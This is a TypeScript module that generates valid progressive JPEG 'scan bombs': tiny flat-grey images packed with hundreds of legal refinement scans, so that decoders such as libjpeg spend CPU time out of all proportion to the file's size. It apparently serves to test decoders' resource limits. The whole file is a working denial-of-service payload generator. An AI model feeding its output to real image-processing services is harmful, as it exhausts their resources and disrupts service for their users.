/**
 * Valid progressive JPEGs with as many scans as asked: the decoder's work grows with scans x
 * blocks while the file stays tiny. Every DCT coefficient is zero (a flat grey image), so each scan
 * is cheap to write: the DC scan spends one bit per block, and each AC scan is a few end-of-band
 * runs covering every block. The scans form a legal progression (each coefficient band is first
 * sent at Al = 13, then refined one bit at a time, Ah = previous Al, Al = Ah - 1), so libjpeg has
 * nothing to warn about and must do all the work.
 */

import {DHT, DQT, EOI, SOS, segment, writeJpeg, type Segment} from './jpeg-segments.js';

/** Bits into bytes, most significant first, with the 0xFF 0x00 stuffing of entropy-coded data. */
class BitWriter {
  private readonly bytes: number[] = [];
  private acc = 0;
  private bits = 0;

  put(value: number, length: number): void {
    for (let i = length - 1; i >= 0; i--) {
      this.acc = (this.acc << 1) | ((value >> i) & 1);
      if (++this.bits === 8) this.emit();
    }
  }

  /** Pads the last byte with 1 bits, as the standard asks. */
  finish(): Buffer {
    if (this.bits > 0) this.put(0xff, 8 - this.bits);
    return Buffer.from(this.bytes);
  }

  private emit(): void {
    this.bytes.push(this.acc);
    if (this.acc === 0xff) this.bytes.push(0);
    this.acc = 0;
    this.bits = 0;
  }
}

/** One DC table whose only symbol is "difference 0", coded as the single bit 0. */
const DC_TABLE = [0x00, 1, ...new Array<number>(15).fill(0), 0x00];
/** One AC table of the 15 end-of-band run symbols EOB0..EOB14, each a 4-bit code (0000 to 1110). */
const AC_TABLE = [0x10, 0, 0, 0, 15, ...new Array<number>(12).fill(0), ...Array.from({length: 15}, (_, r) => r << 4)];

/** The entropy-coded data of an AC scan (first or refinement) over `blocks` all-zero blocks. */
function endOfBandRuns(blocks: number): Buffer {
  const w = new BitWriter();
  for (let left = blocks; left > 0; ) {
    const run = Math.min(left, 0x7fff);
    const r = Math.floor(Math.log2(run));
    w.put(r, 4);
    w.put(run - (1 << r), r);
    left -= run;
  }
  return w.finish();
}

export interface ScanBombSpec {
  width: number;
  height: number;
  /** 1 (greyscale) or 3 (YCbCr, every component at full resolution) */
  components: 1 | 3;
  /** scans in the file, at most 1 + 63 x 14 x components */
  scans: number;
}

export function maxScans(components: number): number {
  return 1 + 63 * 14 * components;
}

/** A valid progressive JPEG of `spec.scans` scans, every pixel mid-grey. */
export function scanBomb({width, height, components, scans}: ScanBombSpec): Buffer {
  if (scans < 1 || scans > maxScans(components)) throw new Error(`a ${components}-component bomb has 1 to ${maxScans(components)} scans`);
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
  const sof = Buffer.alloc(6 + 3 * components);
  sof[0] = 8;
  sof.writeUInt16BE(height, 1);
  sof.writeUInt16BE(width, 3);
  sof[5] = components;
  for (let c = 0; c < components; c++) sof.set([c + 1, 0x11, 0], 6 + 3 * c);
  const segments: Segment[] = [segment(DQT, [0, ...new Array<number>(64).fill(1)]), segment(0xc2, sof), segment(DHT, DC_TABLE), segment(DHT, AC_TABLE)];

  // the DC of every component in one interleaved scan, final at once (Al = 0)
  const dc = new BitWriter();
  for (let i = 0; i < blocks * components; i++) dc.put(0, 1);
  const ids = Array.from({length: components}, (_, c) => [c + 1, 0x00]).flat();
  segments.push(segment(SOS, [components, ...ids, 0, 0, 0x00], {scan: dc.finish()}));

  // then the AC bands one coefficient at a time, from Al = 13 down, as far as the count goes
  const runs = endOfBandRuns(blocks);
  let left = scans - 1;
  for (let al = 13; al >= 0 && left > 0; al--)
    for (let c = 1; c <= components && left > 0; c++)
      for (let k = 1; k <= 63 && left > 0; k++, left--) {
        const ah = al === 13 ? 0 : al + 1;
        segments.push(segment(SOS, [1, c, 0x00, k, k, (ah << 4) | al], {scan: runs}));
      }
  segments.push(segment(EOI, []));
  return writeJpeg(segments);
}
